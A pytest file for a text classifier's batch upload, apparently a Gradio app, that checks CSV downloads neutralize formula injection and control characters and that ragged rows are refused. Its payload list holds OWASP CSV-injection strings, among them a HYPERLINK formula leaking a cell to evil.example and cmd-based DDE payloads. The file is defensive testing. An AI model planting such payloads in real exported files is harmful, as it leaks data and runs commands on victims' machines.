"""Batch files in and out: the download cannot run as spreadsheet formulas and holds the cleaned
text that was classified; a row whose fields do not line up with the header is refused."""

from __future__ import annotations

import csv
import re
import unicodedata

import pytest

from pipeline.core.decision import DECISIONS
from space.batch import BatchFileError, read_batch_file

# OWASP's CSV-injection payloads, and text with NUL, BEL and ESC in it.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "delete\x00 my old\x07 files\x1b[31m now",
]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def client(space_url):
    from gradio_client import Client

    return Client(space_url, verbose=False, download_files=True)


def _classify_file(client, path):
    from gradio_client import handle_file

    return client.predict(handle_file(str(path)), api_name="/classify_batch")


def test_batch_download_neutralizes_formulas_and_control_characters(client, tmp_path):
    path = tmp_path / "payloads.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text", "=evil", "@note"])
        for payload in PAYLOADS:
            writer.writerow([payload, payload, "+1"])
    _, _, csv_path = _classify_file(client, path)
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert "'=evil" in header and "'@note" in header
    assert len(body) == len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(DANGEROUS_STARTS), cell
            assert not [ch for ch in cell if unicodedata.category(ch) == "Cc"], repr(cell)
    text, decision = header.index("text"), header.index("decision")
    assert body[0][text] == "'" + PAYLOADS[0]
    assert body[-1][text] == "delete my old files [31m now"
    assert all(row[decision] in DECISIONS for row in body)


def test_row_with_more_fields_than_the_header_is_refused_with_its_line(tmp_path):
    path = tmp_path / "ragged.csv"
    path.write_text("text,other\nopen my mail,1\na,1,extra,more\n", encoding="utf-8")
    message = "ragged.csv: line 3 has 4 fields but the header (line 1) has 2"
    with pytest.raises(BatchFileError, match=re.escape(message)):
        read_batch_file(path)


def test_row_with_fewer_fields_than_the_header_is_refused_with_its_line(tmp_path):
    path = tmp_path / "short.csv"
    path.write_text('id,text\n1,"two\nlines"\n\n2\n', encoding="utf-8")
    message = "short.csv: line 5 has 1 field but the header (line 1) has 2"
    with pytest.raises(BatchFileError, match=re.escape(message)):
        read_batch_file(path)


def test_ragged_upload_gets_the_reason_and_no_download(client, tmp_path):
    from gradio_client.exceptions import AppError

    path = tmp_path / "ragged.csv"
    path.write_text("text,other\na,1,extra,more\n", encoding="utf-8")
    with pytest.raises(AppError, match="line 2 has 4 fields but the header \\(line 1\\) has 2"):
        _classify_file(client, path)
